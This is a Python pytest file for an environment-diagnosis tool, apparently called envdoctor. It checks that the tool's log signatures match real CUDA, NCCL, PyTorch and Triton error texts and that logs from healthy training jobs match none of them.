"""Each signature is found by a text that was really seen, and healthy logs match nothing, in linear time."""

import inspect
import re
import shlex
import time
from importlib import import_module
from re import _parser

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

from envdoctor import knowledge, registry
from envdoctor.cli import app
from envdoctor.facts import jit_tools
from envdoctor.reports.layout import COMMANDS
from envdoctor.signatures import LONGEST, QUOTED, THINGS, TRIGGERS, WHICH, first, found

ROWS = knowledge.rows("signatures")
ROUTINE = knowledge.rows("routine")
KEYS = ("id", "pattern", "says", "cure", "confirms", "severity", "source", "checked")
SITE = "/env/lib/python3.12/site-packages"
NMS = "RuntimeError: operator torchvision::nms does not exist"
FX = (
    "RuntimeError: Detected that you are using FX to symbolically trace a dynamo-optimized function. "
    "This is not supported at the moment."
)
OOM = (
    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.95 GiB. GPU 0 has a total capacity of 14.57 GiB "
    "of which 1.58 GiB is free."
)
INDUCTOR = "cqzx7ufv2m5lpkfmmz3vnd4kcxwdkiw5wdlnb7ixshmarx4ybkra"
"""A name that inductor gives: c, and 51 letters of the base32 of a SHA-256."""
EXAMPLES = {
    "no-c-compiler": ["RuntimeError: Failed to find C compiler. Please specify via CC environment variable."],
    "no-cxx-compiler": [
        "InvalidCxxCompiler: No working C++ compiler found in torch._inductor.config.cpp.cxx: (None, 'g++')",
        "InductorError: InvalidCxxCompiler: Compiler: g++-99 is not found.",
    ],
    "openssl-missing": ["FileNotFoundError: [Errno 2] No such file or directory: 'openssl'"],
    "python-header-missing": ["/tmp/tmps1rkq3y3/main.c:5:10: fatal error: Python.h: No such file or directory"],
    "libcuda-link-missing": [
        "AssertionError: libcuda.so cannot found!",
        "/usr/bin/ld: cannot find -lcuda",
        "/usr/bin/ld: cannot find -lcuda: No such file or directory",
        "/usr/bin/ld: cannot find -l:libcuda.so.1: No such file or directory",
    ],
    "ptxas-unknown-gpu": ["ptxas fatal   : Value 'sm_120' is not defined for option 'gpu-name'"],
    "ptxas-older-than-triton": [
        "ptxas /tmp/tmpqgu1f9dk.ptx, line 5; fatal   : Unsupported .version 8.6; current version is '8.5'"
    ],
    "ptxas-missing": ["RuntimeError: Cannot find ptxas", "RuntimeError: Cannot find ptxas-blackwell"],
    "ptxas-not-executable": [
        f"PermissionError: [Errno 13] Permission denied: '{SITE}/triton/backends/nvidia/bin/ptxas'"
    ],
    "ptxas-failed": [
        "triton.runtime.errors.PTXASError: PTXAS error: Internal Triton PTX codegen error",
        "RuntimeError: Internal Triton PTX codegen error",
        "RuntimeError: `ptxas` failed with error code 4294967295:",
    ],
    "triton-out-of-resources": [
        (
            "triton.runtime.errors.OutOfResources: out of resource: shared memory, Required: 180224, Hardware limit: "
            "101376. Reducing block sizes or `num_stages` may help."
        )
    ],
    "gpu-too-old-for-triton": [
        (
            "Found Tesla P100-PCIE-16GB which is too old to be supported by the triton GPU compiler, "
            "which is used as the backend."
        )
    ],
    "triton-missing": [
        (
            "torch._inductor.exc.TritonMissing: Cannot find a working triton installation. Either the package is not "
            "installed or it is too old."
        )
    ],
    "fx-trace-race": [FX],
    "no-kernel-image": ["RuntimeError: CUDA error: no kernel image is available for execution on the device"],
    "invalid-kernel-image": ["RuntimeError: Triton Error [CUDA]: device kernel image is invalid"],
    "ptx-of-newer-toolchain": ["CUDA error: the provided PTX was compiled with an unsupported toolchain."],
    "driver-too-old": [
        (
            "CUDA initialization: The NVIDIA driver on your system is too old (found version 12020). Please "
            "update your GPU driver"
        )
    ],
    "driver-insufficient": ["CUDA error: CUDA driver version is insufficient for CUDA runtime version"],
    "stub-libcuda": [
        "RuntimeError: CUDA error: CUDA driver is a stub library",
        (
            "RuntimeError: Unexpected error from cudaGetDeviceCount(). Did you run some cuda functions before calling "
            "NumCudaDevices() that might have already set an error? Error 34: CUDA driver is a stub library"
        ),
    ],
    "driver-library-mismatch": [
        "Failed to initialize NVML: Driver/library version mismatch",
        "Failed to initialize NVML: Driver/Library version mismatch",
    ],
    "driver-combination": ["Error 803: system has unsupported display driver / cuda driver combination"],
    "fabric-not-ready": [
        "UserWarning: CUDA initialization: ... Error 802: system not yet initialized (Triggered ...)",
        "RuntimeError: CUDA error: system not yet initialized",
        "RuntimeError: Triton Error [CUDA]: system not yet initialized",
        "RuntimeError: cuda runtime error (802) : system not yet initialized at THCGeneral.cpp:47",
        "CUDA_ERROR_SYSTEM_NOT_READY: system not yet initialized",
        "init.cc:1 NCCL WARN Cuda failure 'system not yet initialized'",
        "init.cc:1 NCCL WARN Cuda failure 802 'system not yet initialized'",
    ],
    "forward-compatibility": ["Error 804: forward compatibility was attempted on non supported HW"],
    "torch-without-cuda": ["AssertionError: Torch not compiled with CUDA enabled"],
    "no-driver": ["RuntimeError: Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU"],
    "no-cuda-device": ["RuntimeError: No CUDA GPUs; CUDA error: no CUDA-capable device is detected"],
    "no-gpus-available": ["RuntimeError: No CUDA GPUs are available"],
    "cuda-unknown-error": [
        (
            "RuntimeError: CUDA unknown error - this may be due to an incorrectly set up environment, e.g. changing "
            "env variable CUDA_VISIBLE_DEVICES after program start. Setting the available devices to be zero."
        )
    ],
    "invalid-device": ["RuntimeError: CUDA error: invalid device ordinal"],
    "device-busy": [
        "RuntimeError: CUDA error: CUDA-capable device(s) is/are busy or unavailable",
        "RuntimeError: CUDA error: all CUDA-capable devices are busy or unavailable",
    ],
    "uncorrectable-ecc": ["RuntimeError: CUDA error: uncorrectable ECC error encountered"],
    "gpu-fault": [
        "kernel: NVRM: Xid (PCI:0000:44:00): 79, GPU has fallen off the bus",
        "NVRM: Xid (0000:44:00): 48, pid='<unknown>', name=<unknown>, DBE",
    ],
    "illegal-memory-access": ["RuntimeError: CUDA error: an illegal memory access was encountered"],
    "launch-failure": [
        "RuntimeError: CUDA error: unspecified launch failure",
        "RuntimeError: CUDA error: misaligned address",
    ],
    "device-assert": [
        "RuntimeError: CUDA error: device-side assert triggered",
        "enqueue.cc:1 NCCL WARN Cuda failure 'device-side assert triggered'",
        "enqueue.cc:1 NCCL WARN Cuda failure 710 'device-side assert triggered'",
    ],
    "memory-held-by-others": [f"{OOM} Process 2493055 has 12.02 GiB memory in use. Including non-PyTorch memory"],
    "out-of-memory": [
        f"{OOM} Including non-PyTorch memory, this process has 23.60 GiB memory in use.",
        (
            "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.70 GiB. GPU 0 has a total capacty of "
            "6.00 GiB of which 0 bytes is free. Of the allocated memory 2.93 GiB"
        ),
    ],
    "out-of-memory-untold": [
        (
            "RuntimeError: CUDA out of memory. Tried to allocate 2.26 GiB (GPU 0; 6.00 GiB total capacity; 781.59 MiB "
            "already allocated; 3.03 GiB free; 1.24 GiB reserved in total by PyTorch)"
        ),
        "RuntimeError: CUDA error: out of memory",
        "torch.AcceleratorError: CUDA error: out of memory",
        "RuntimeError: CUDA driver error: out of memory",
        "torch.OutOfMemoryError: CUDA out of memory occurred when warming up sampler with 256 dummy requests.",
        "Exception: CUDA out of memory",
        "RuntimeError: Triton Error [CUDA]: out of memory",
        "RuntimeError: cuda runtime error (2) : out of memory at THCStorage.cu:58",
        "CUDA_ERROR_OUT_OF_MEMORY: out of memory",
        "alloc.h:1 NCCL WARN Cuda failure 'out of memory'",
        "alloc.h:1 NCCL WARN Cuda failure 2 'out of memory'",
    ],
    "cublas-not-started": [
        "RuntimeError: CUDA error: CUBLAS_STATUS_NOT_INITIALIZED when calling `cublasCreate(handle)`",
        "RuntimeError: CUDA error: CUBLAS_STATUS_ALLOC_FAILED when calling `cublasCreate(handle)`",
    ],
    "cublas-failed": [
        "RuntimeError: CUDA error: CUBLAS_STATUS_EXECUTION_FAILED when calling `cublasSgemm( handle, opa, opb, m, n)`"
    ],
    "cudnn-sublibrary": [
        "RuntimeError: cuDNN error: CUDNN_STATUS_SUBLIBRARY_VERSION_MISMATCH",
        "cudnn_status: CUDNN_STATUS_SUBLIBRARY_LOADING_FAILED",
        "Unable to load any of {libcudnn_engines_precompiled.so.9.1.0, libcudnn_engines_precompiled.so.9.1}",
    ],
    "cudnn-incompatible": [
        (
            "RuntimeError: cuDNN version incompatibility: PyTorch was compiled  against (9, 10, 2) but found runtime "
            "version (9, 1, 0)."
        )
    ],
    "cudnn-not-initialized": ["RuntimeError: cuDNN error: CUDNN_STATUS_NOT_INITIALIZED"],
    "extension-of-another-torch": [
        (
            f"ImportError: {SITE}/flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so: undefined symbol: "
            "_ZN3c105ErrorC2ENS_14SourceLocationENSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE"
        ),
        "x.so: undefined symbol: _ZNK3c105Error4whatEv",
        "x.so: undefined symbol: _ZN2at4_ops5zeros4callEN3c108ArrayRefINS2_6SymIntEEE",
    ],
    "library-of-another-version": [
        (
            f"ImportError: {SITE}/torch/lib/../../nvidia/cusparse/lib/libcusparse.so.12: undefined symbol: "
            "__nvJitLinkComplete_12_4, version libnvJitLink.so.12"
        )
    ],
    "undefined-symbol": [f"ImportError: {SITE}/torch/lib/libtorch_cuda.so: undefined symbol: ncclCommResume"],
    "libcuda-missing": [
        "ImportError: libcuda.so.1: cannot open shared object file: No such file or directory",
        "OSError: libcuda.so: cannot open shared object file: No such file or directory",
    ],
    "cuda-library-missing": [
        "ImportError: libcudnn.so.9: cannot open shared object file: No such file or directory",
        "OSError: libtorch_cuda_cu.so: cannot open shared object file: No such file or directory",
    ],
    "library-missing": ["ImportError: libGL.so.1: cannot open shared object file: No such file or directory"],
    "optional-library-missing": [
        (
            "Could not load bitsandbytes native library: libcusparse.so.11: cannot open shared object file: "
            "No such file or directory"
        ),
        "libnvjpeg.so: cannot open shared object file: No such file or directory (ignored, falling back to PIL)",
    ],
    "glibc-too-old": [
        "ImportError: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.32' not found (required by /env/x.so)",
        "python: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.32' not found",
    ],
    "libstdcxx-too-old": [
        "ImportError: /lib64/libstdc++.so.6: version `GLIBCXX_3.4.31' not found",
        "/usr/lib/x86_64-linux-gnu/libstdc++.so.6: version `CXXABI_1.3.15' not found (required by /env/x.so)",
    ],
    "torchvision-of-another-torch": [NMS],
    "numpy-abi": [
        "A module that was compiled using NumPy 1.x cannot be run in",
        "AttributeError: _ARRAY_API not found",
        "RuntimeError: Numpy is not available",
    ],
    "numpy-size-changed": [
        (
            "ValueError: numpy.dtype size changed, may indicate binary incompatibility. Expected 96 from C header, "
            "got 88 from PyObject"
        )
    ],
    "toolkit-mismatch": [
        "The detected CUDA version (12.9) mismatches the version that was used to compilePyTorch (11.8)."
    ],
    "fork-after-cuda": ["RuntimeError: Cannot re-initialize CUDA in forked subprocess. To use CUDA with"],
    "shared-memory-bus-error": [
        (
            "DataLoader worker (pid 46794) is killed by signal: Bus error. It is possible that dataloader's "
            "workers are out of shared memory. Please try to raise your shared memory limit."
        ),
        "ERROR: Unexpected bus error encountered in worker. This might be caused by insufficient shared memory (shm).",
        "It is possible that dataloader's workers are out of shared memory.",
    ],
    "shared-memory-descriptors": [
        "RuntimeError: unable to open shared memory object </torch_1_2> in read-write mode: Too many open files (24)"
    ],
    "shared-memory-full": [
        "RuntimeError: unable to write to file </torch_31911_952036340_6686>: No space left on device (28)",
        "misc/shmutils.cc:132 NCCL WARN Error while creating shared memory segment /dev/shm/nccl-WU88OE (size 9637888)",
        "NCCL WARN Error while creating shared memory segment nccl-shm-recv-1462445a6f01cbfc-1-2-3 (size 9637888)",
        "NCCL WARN Error: failed to extend /dev/shm/nccl-WU88OE to 9637892 bytes, error: No space left on device (28)",
    ],
    "shared-memory-object": [
        "RuntimeError: unable to open shared memory object </torch_5962_408180057> in read-write mode"
    ],
    "worker-killed": ["RuntimeError: DataLoader worker (pid 2217) is killed by signal: Killed. "],
    "step-out-of-memory": [
        "slurmstepd: error: Detected 1 oom_kill event in StepId=11300781.0. Some of the step",
        "slurmstepd: error: Detected 2 oom-kill event(s) in step 3756240.batch cgroup.",
    ],
    "process-killed": ["  traceback : Signal 9 (SIGKILL) received by PID 14750"],
    "no-more-threads": [
        "OpenBLAS blas_thread_init: pthread_create failed for thread 50 of 64: Resource temporarily unavailable",
        "OpenBLAS blas_thread_init: pthread_create: Resource temporarily unavailable",
        "bash: fork: retry: Resource temporarily unavailable",
        "-bash: fork: Resource temporarily unavailable",
        "BlockingIOError: [Errno 11] Resource temporarily unavailable",
        "RuntimeError: can't start new thread",
    ],
    "too-many-open-files": [
        "Too many open files",
        "failed: OSError(24, 'Too many open files')",
        "OSError: [Errno 24] Too many open files",
        "RuntimeError: received 0 items of ancdata",
    ],
    "no-space": [
        "OSError: [Errno 28] No space left on device",
        "OSError: [Errno 28] No space left on device: '/mnt/nfs/ckpt/step.pt'",
        "cp: error writing '/mnt/nfs/ckpt/step.pt': No space left on device",
        "mkdir: cannot create directory \u2018/mnt/nfs/ckpt\u2019: Disk quota exceeded",
        "tar: write error: No space left on device (os error 28)",
        "failed: OSError(28, 'No space left on device')",
        "No space left on device",
        "OSError: [Errno 122] Disk quota exceeded",
    ],
    "cache-noexec": [
        "ImportError: /tmp/torchinductor_root/triton/0/ab/cuda_utils.so: failed to map segment from shared object"
    ],
    "cache-not-writable": [
        "PermissionError: [Errno 13] Permission denied: '/tmp/torchinductor_root/locks/cabc.lock'",
        "PermissionError: [Errno 13] Permission denied: '/scratch/cache/locks/cabc.lock'",
        "PermissionError: [Errno 13] Permission denied: '/home/me/.triton/cache/AB12/tmp.pid_1'",
        "PermissionError: [Errno 13] Permission denied: '/tmp/triton/0a1b.lock'",
    ],
    "cache-stale-handle": [
        "ImportError: /root/.triton/cache/x/cuda_utils.so: cannot stat shared object: Stale file handle",
        "OSError: [Errno 116] Stale file handle",
    ],
    "cache-empty-module": [
        "AttributeError: module 'torch._inductor.runtime.compile_tasks.cabc' has no attribute 'call'",
        f"AttributeError: module '{INDUCTOR}' has no attribute 'call'",
        f"AttributeError: module 'compile_tasks.{INDUCTOR}' has no attribute 'call'",
    ],
    "cache-damaged-module": ["RuntimeError: Failed to import /tmp/torchinductor_root/ab/cabc.py"],
    "cache-damaged-library": [
        "ImportError: /tmp/torchinductor_root/ab/cabc.main.so: file too short",
        "OSError: /home/me/.triton/cache/AB12/cuda_utils.so: invalid ELF header",
    ],
    "damaged-library": [
        f"OSError: {SITE}/torch/lib/../../../../libcufft.so.10: invalid ELF header",
        "ImportError: /scratch/cache/ab/cabc.main.so: file too short",
    ],
    "cache-empty-kernel": ["ImportError: dynamic module does not define module export function (PyInit_kernel)"],
    "triton-cache-damaged": [
        "    metadata = json.loads(metadata_path.read_text())",
        "            grp_data = json.load(f)",
        "KeyError: \"Unknown key: 'cubin'\"",
    ],
    "inductor-cache-entry": [
        "W0603 14:22:00 torch/_inductor/codecache.py:1717] fx graph cache unable to load compiled graph"
    ],
    "user-without-name": ["KeyError: 'getpwuid(): uid not found: 1042'"],
    "nccl-duplicate-gpu": ["Duplicate GPU detected : rank 3 and rank 0 both on CUDA device f000"],
    "ranks-missing": [
        "torch.distributed.DistStoreError: Timed out after 1801 seconds waiting for clients. 1/3 clients joined.",
        "torch.distributed.DistStoreError: Timed out after 6 seconds waiting for workers. 1/2 workers joined.",
    ],
    "name-missing": [
        f"ImportError: cannot import name 'pipeline' from 'transformers' ({SITE}/transformers/__init__.py)",
        "3: ImportError: cannot import name 'x' from 'transformers.file_utils'",
        "(TaskRunner pid=4242) ImportError: cannot import name 'x' from 'transformers.file_utils'",
    ],
    "module-missing": [
        "ModuleNotFoundError: No module named 'transformers.models.bort'",
        "2026-03-01 10:00:00 ERROR ModuleNotFoundError: No module named 'peft'",
    ],
    "segmentation-fault": [
        "Segmentation fault (core dumped)",
        "Fatal Python error: Segmentation fault",
        "run.sh: line 3:  8156 Segmentation fault      (core dumped) python train.py",
        "  traceback : Signal 11 (SIGSEGV) received by PID 5277",
    ],
    "nccl-peer-lost": [
        (
            "DistBackendError: NCCL error in: NCCLUtils.hpp:268, remote process exited or there was a "
            "network error, NCCL version 2.21.5"
        ),
        "ncclRemoteError: A call failed possibly due to a network error or a remote process exiting prematurely.",
    ],
    "nccl-timeout": [
        (
            "[rank0]:[E321 02:07:08.4 ProcessGroupNCCL.cpp:607] [Rank 0] Watchdog caught collective operation timeout: "
            "WorkNCCL(SeqNum=1580, OpType=ALLREDUCE, NumelIn=466119168, Timeout(ms)=600000) ran for 600060 milliseconds"
        )
    ],
    "nccl-failed": [
        "NCCL error in: ../NCCLUtils.hpp:275, unhandled cuda error (run with NCCL_DEBUG=INFO for details)",
        "RuntimeError: NCCL error in: ProcessGroupNCCL.cpp:518, unhandled system error, NCCL version 2.4.8",
    ],
}
"""Texts as the sources have them, prefixes shortened; of each alternative of a pattern one."""
HEALTHY = {
    "torchrun": """\
W0603 14:22:01.000000 4242 torch/distributed/run.py:792] Setting OMP_NUM_THREADS environment variable for each process
[rank0]:[W603 10:11:20.1 ProcessGroupNCCL.cpp:4561] [PG ID 0 PG GUID 0 Rank 0]  using GPU 0 to perform barrier as
[rank0]: step 120 loss=2.3101 grad_norm=0.81 errors=0 lr=1.2e-05 mem=61.2GiB/79.1GiB tokens/s=21534
WARNING no checkpoint found; starting from scratch, device cuda:0, shared memory 16.0 GiB
INFO torch.cuda.is_available() is True, kernel image cache at /tmp/torchinductor_root
UserWarning: lr_scheduler.step() was called before optimizer.step()
INFO saved checkpoint to /scratch/run/step_120, 12 GB, space left 2 TB; eval accuracy not available
[rank0]:[W603 11:00:00 ProcessGroupNCCL.cpp:1250] Warning: WARNING: process group has NOT been destroyed
""",
    "lightning": """\
GPU available: True (cuda), used: True
/env/lib/python3.12/site-packages/lightning/fabric/plugins/environments/slurm.py:204: The `srun` command is available
Epoch 3:  45%|####5     | 22512/50000 [02:11<02:41, 171.3it/s, loss=2.31]
LOCAL_RANK: 0 - CUDA_VISIBLE_DEVICES: [0,1,2,3,4,5,6,7]
""",
    "nccl": """\
node7:4242:4242 [0] NCCL INFO Bootstrap : Using eth0:10.0.0.7<0>
node7:4242:4301 [0] NCCL INFO Channel 00/0 : 0[0] -> 1[1] via direct shared memory
node7:4242:4301 [0] NCCL INFO Using network Socket, no plugin found (libnccl-net.so), using internal implementation
node7:4242:4301 [0] NCCL INFO NET/Plugin: Could not find: libnccl-net.so. Using internal network plugin.
node7:4242:4301 [0] NCCL INFO NET/Plugin: dlerror=libnccl-net.so: cannot open shared object file: No such file or \
directory No plugin found (libnccl-net.so), using internal implementation
node7:4242:4301 [0] NCCL INFO TUNER/Plugin: Plugin load returned 2 : libnccl-tuner.so: cannot open shared object file: \
No such file or directory : when loading libnccl-tuner.so
dlerror=libnccl-net-ofi.so: cannot open shared object file: No such file or directory
libnccl-profiler.so: cannot open shared object file: No such file or directory
node7:4242:4301 [0] NCCL INFO cuMem host alloc: unhandled cuda error, falling back
node7:4242:4301 [0] NCCL INFO Could not enable P2P between dev 0 and dev 1: peer access is not supported
""",
    "deepspeed": """\
[2026-03-01 10:00:00,000] [INFO] [real_accelerator.py:219:get_accelerator] Setting ds_accelerator to cuda (auto detect)
 [WARNING]  async_io requires the dev libaio .so object and headers but these were not found.
 [WARNING]  Please specify the CUTLASS repo directory as environment variable $CUTLASS_PATH
/usr/bin/ld: cannot find -laio: No such file or directory
/usr/bin/ld: cannot find -lcufile: No such file or directory
collect2: error: ld returned 1 exit status
 [WARNING]  using untested triton version (3.2.0), only 1.0.0 is known to be compatible
""",
    "vllm": """\
INFO 03-01 10:00:00 [__init__.py:256] Automatically detected platform cuda.
WARNING 03-01 10:00:01 [interface.py:391] Using 'pin_memory=False' as WSL is detected.
INFO 03-01 10:00:02 [core.py:70] Initializing a V1 LLM engine
INFO 03-01 10:00:40 [gpu_worker.py:298] Available KV cache memory: 61.2 GiB
INFO If you hit CUDA out of memory, consider decreasing gpu_memory_utilization
""",
    "trainer": """\
huggingface/tokenizers: The current process just got forked, after parallelism has already been used.
[rank0]: INFO auto_find_batch_size=True: reduces on CUDA out of memory
{'loss': 1.2, 'grad_norm': 0.5, 'learning_rate': 1e-05, 'epoch': 0.1}
/env/torchvision/io/image.py:14: UserWarning: Failed to load image Python extension: '/env/torchvision/image.so: \
undefined symbol: _ZN3c1017RegisterOperatorsD1Ev' If you don't plan on using image functionality, you can ignore this
""",
    "pip": """\
Collecting torch==2.13.0
ERROR: pip's dependency resolver does not currently take into account all the packages that are installed.
Successfully installed torch-2.13.0
  copying ptxas -> build/lib
""",
    "tensorflow": """\
2026-03-01 10:00:00.1 E external/local_xla/xla/stream_executor/cuda/cuda_fft.cc:477] Unable to register cuFFT factory
2026-03-01 10:00:00.2 W tensorflow/compiler/tf2tensorrt/utils/py_utils.cc:38] TF-TRT Warning: Could not find TensorRT
2026-03-01 10:00:00.3 W tensorflow/stream_executor/platform/default/dso_loader.cc:64] Could not load dynamic library \
'libcudart.so.11.0'; dlerror: libcudart.so.11.0: cannot open shared object file: No such file or directory
2026-03-01 10:00:00.4 E tensorflow/stream_executor/cuda/cuda_driver.cc:265] failed call to cuInit: \
CUDA_ERROR_NO_DEVICE: no CUDA-capable device is detected
2026-03-01 10:00:00.5 E external/local_xla/xla/stream_executor/cuda/cuda_driver.cc:152] failed call to cuInit: \
INTERNAL: CUDA error: Failed call to cuInit: CUDA_ERROR_NO_DEVICE: no CUDA-capable device is detected
""",
    "compile": """\
INFO compiling flex_attention with ptxas from the wheel, torch 2.11.0, CUDA 13.0, driver 580.95.05
[rank0]:E0603 10:11:20.123456 4711 torch/_inductor/select_algorithm.py:5067] [0/0] Runtime error during autotuning:
[rank0]:E0603 10:11:20.123456 4711 torch/_inductor/select_algorithm.py:5067] [0/0] out of resource: shared memory, \
Required: 264192, Hardware limit: 232448. Reducing block sizes or `num_stages` may help..
[rank0]:E0603 10:11:20.123456 4711 torch/_inductor/select_algorithm.py:5067] [0/0] Ignoring this choice.
Runtime error during autotuning: out of resource: shared memory, Required: 264192, Hardware limit: 232448. Reducing \
block sizes or `num_stages` may help. Ignoring this choice.
ptxas info    : Used 40 registers
""",
    "ordinary": f"""\
DEBUG Permission denied: retrying upload of metrics
INFO C compiler: /usr/bin/gcc, out of memory guard: off
WARNING telemetry: metrics system not yet initialized, buffering events
WARNING dataset: /data/librispeech/84-121123-0001.flac: file too short, skipping
/data/video/xx.mp4: invalid ELF header
AttributeError: module 'mylib.plugins' has no attribute 'call'
AttributeError: module 'mylib.{INDUCTOR[:40]}' has no attribute 'call'
INFO disk check: would raise 'No space left on device' below 5 GB; currently 800 GB free
INFO retry policy: on "CUDA out of memory" the batch size is halved
    except torch.OutOfMemoryError:  # CUDA out of memory
Setting ulimit to avoid Too many open files
DEBUG saved config: {{'on_error': 'device-side assert triggered'}}
==> ncclRemoteError handler installed
WARNING: apex is not used: ModuleNotFoundError: No module named 'apex'
Error caught was: No module named 'triton'
RuntimeWarning: numpy.ndarray size changed, may indicate binary incompatibility. Expected 80 from C header, got 88
flock: cannot lock: Resource temporarily unavailable
[12.3] NVRM: Xid (PCI:0000:44:00): 31, pid=1234, name=python, Ch 00000008, intr 00000000. MMU Fault
""",
}
"""What jobs print that are well, by what prints it."""


def test_a_row_has_its_keys_in_order():
    for row in ROWS:
        assert list(row) == [key for key in KEYS if key in row], row["id"]
        assert {"id", "pattern", "says", "cure", "source"} <= row.keys(), row["id"]
        assert row.get("severity", "warning") == "warning", f"{row['id']}: error is what a row without it means"


def test_an_id_is_a_slug_and_has_an_example():
    assert EXAMPLES.keys() == {row["id"] for row in ROWS}
    assert all(re.fullmatch(r"[a-z]+(-[a-z]+)*", row["id"]) for row in ROWS)


TEXTS = [(identity, text) for identity, texts in EXAMPLES.items() for text in texts]


@pytest.mark.parametrize("prefix", ["", "[rank3]: ", "\x1b[31m[rank0]:\x1b[0m 10%|#\r"])
@pytest.mark.parametrize(("identity", "text"), TEXTS, ids=[identity for identity, _ in TEXTS])
def test_an_example_is_matched_by_its_own_row_alone(identity, text, prefix):
    whole = f"line one\n{prefix}{text}\nlast line\n"
    (match,) = found([whole.encode()])
    assert (match.id, match.line, match.count) == (identity, 2, 1)
    assert match == first(whole)


@pytest.mark.parametrize("row", ROWS, ids=[row["id"] for row in ROWS])
def test_every_branch_of_a_pattern_holds_a_trigger(row):
    """What the words in the pattern's source let pass must not be less than what the pattern matches."""
    words = [word for word in TRIGGERS if word in row["pattern"].replace("\\", "")]
    for branch in branches(_parser.parse(row["pattern"])):
        assert any(word in branch for word in words), (branch, words)


def branches(parsed):
    """Return the literal text of each way through a pattern; what is not literal becomes a NUL."""
    ways = [""]
    for operation, argument in parsed:
        name = str(operation)
        if name == "LITERAL":
            ways = [way + chr(argument) for way in ways]
        elif name == "BRANCH":
            ways = [way + more for way in ways for branch in argument[1] for more in branches(branch)]
        elif name == "SUBPATTERN":
            ways = [way + more for way in ways for more in branches(argument[3])]
        else:
            ways = [way + "\0" for way in ways]
    return ways


def test_no_trigger_is_idle():
    patterns = [row["pattern"].replace("\\", "") for row in ROWS]
    assert [word for word in TRIGGERS if not any(word in pattern for pattern in patterns)] == []


def test_sentences_and_steps_name_only_groups_of_their_pattern():
    for row in ROWS:
        groups = dict.fromkeys(re.compile(row["pattern"]).groupindex, "x")
        for text in (row["says"], *row["cure"]):
            assert "{" not in text.format(**groups), row["id"]
        assert not row["says"].endswith("."), row["id"]


def test_a_group_is_told_on_every_way_through_its_pattern():
    rows = {row["id"]: row for row in ROWS}
    for identity, text in TEXTS:
        told = " ".join((rows[identity]["says"], *rows[identity]["cure"]))
        assert all(value for name, value in first(text).groups.items() if f"{{{name}}}" in told), identity


def test_confirmed_probes_exist():
    known = {probe.id for probe in registry.probes()}
    assert {confirm.partition(":")[0] for row in ROWS for confirm in row.get("confirms", ())} <= known


def test_a_confirmed_subject_is_one_of_its_probe():
    for row in ROWS:
        for probe, colon, subject in (confirm.partition(":") for confirm in row.get("confirms", ())):
            module = import_module(f"envdoctor.probes.{probe.replace('/', '.').replace('-', '_')}")
            words = inspect.getsource(module) + inspect.getsource(jit_tools)
            assert not colon or f'"{subject}"' in words, (row["id"], subject)


def test_steps_that_look_like_commands_are_commands():
    commands = typer.main.get_command(app).commands.keys()
    for row in ROWS:
        for step in (step.removeprefix("or ") for step in row["cure"]):
            words = step.split()
            if words[0] == "envdoctor":
                assert words[1] in commands, step
            elif words[0] in COMMANDS:
                assert shlex.split(step)
                assert len(words) <= 4, f"{step!r} is a sentence"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("name", HEALTHY)
def test_a_healthy_log_matches_nothing(name, end):
    text = HEALTHY[name].replace("\n", end)
    assert (first(text), found([text.encode()])) == (None, ())


def test_what_is_routine_silences_signatures_that_there_are():
    for row in ROUTINE:
        assert [key for key in ("id", "pattern", "silences", "source", "checked") if key in row] == list(row)
        assert set(row.get("silences", ())) <= EXAMPLES.keys()
        assert row.get("silences") != []


@pytest.mark.parametrize("row", ROUTINE, ids=[row["id"] for row in ROUTINE])
def test_each_row_of_what_is_routine_is_met_in_a_log(row):
    texts = [*HEALTHY.values(), *(text for texts in EXAMPLES.values() for text in texts)]
    assert any(re.search(row["pattern"], text) for text in texts)


@pytest.mark.parametrize(
    "line",
    [
        "node7:1:2 [0] NCCL INFO comm 0x1 initnode7:1:3 [1] alloc.h:1 NCCL WARN Cuda failure 'out of memory'",
        "libcuda.so.1: cannot open shared object file: No such file or directory; falling back to CPU",
        f"optional {'x' * 500} ImportError: libGL.so.1: cannot open shared object file: No such file or directory",
        f"ImportError: {SITE}/bitsandbytes/x.so: undefined symbol: ncclCommResume",
    ],
)
def test_what_is_routine_hides_no_failure(line):
    assert first(line).id not in ("optional-library-missing", None)


def test_a_harmless_thing_hides_no_other():
    missing = ["libnccl-net.so", "liba.so", "libcudnn.so.9", "liba.so", "libcublas.so.12"]
    text = "".join(f"{name}: cannot open shared object file: No such file or directory\n" for name in missing)
    assert [(match.id, match.groups["library"], match.line, match.count) for match in found([text.encode()])] == [
        ("library-missing", "liba.so", 2, 2),
        ("cuda-library-missing", "libcudnn.so.9", 3, 1),
        ("cuda-library-missing", "libcublas.so.12", 5, 1),
    ]


def test_things_of_a_kind_are_bounded():
    lines = [
        f"ImportError: lib{number}.so: cannot open shared object file: No such file or directory\n"
        for number in range(99)
    ]
    matches = found(["".join(lines * 2).encode(), NMS.encode()])
    assert [match.groups.get("library") for match in matches] == [*(f"lib{n}.so" for n in range(THINGS)), None]
    assert {match.count for match in matches[:-1]} == {2}


MEASURES = {
    "events",
    "expected",
    "found",
    "free",
    "has",
    "held",
    "joined",
    "limit",
    "name",
    "operation",
    "other",
    "rank",
    "required",
    "sequence",
    "total",
    "waited",
    "wanted",
    "what",
    "worker",
}
"""Groups that tell no thing: another value of theirs is the same failure once more."""


def test_each_group_is_known_to_name_a_thing_or_a_measure():
    names = {name for row in ROWS for name in re.compile(row["pattern"]).groupindex}
    assert names == MEASURES | WHICH
    assert not MEASURES & WHICH


def test_the_most_specific_comes_first_wherever_it_stands():
    text = f"RuntimeError: Internal Triton PTX codegen error\n{EXAMPLES['ptxas-unknown-gpu'][0]}\n"
    assert [match.id for match in found([text.encode()])] == ["ptxas-failed", "ptxas-unknown-gpu"]
    assert first(text).id == "ptxas-unknown-gpu"


def test_what_the_text_tells_is_in_the_sentence():
    match = first(EXAMPLES["library-of-another-version"][0])
    assert match.groups == {
        "library": "libcusparse.so.12",
        "symbol": "__nvJitLinkComplete_12_4",
        "version": "libnvJitLink.so.12",
    }
    assert match.says.startswith("libcusparse.so.12 wants __nvJitLinkComplete_12_4, which the libnvJitLink.so.12")


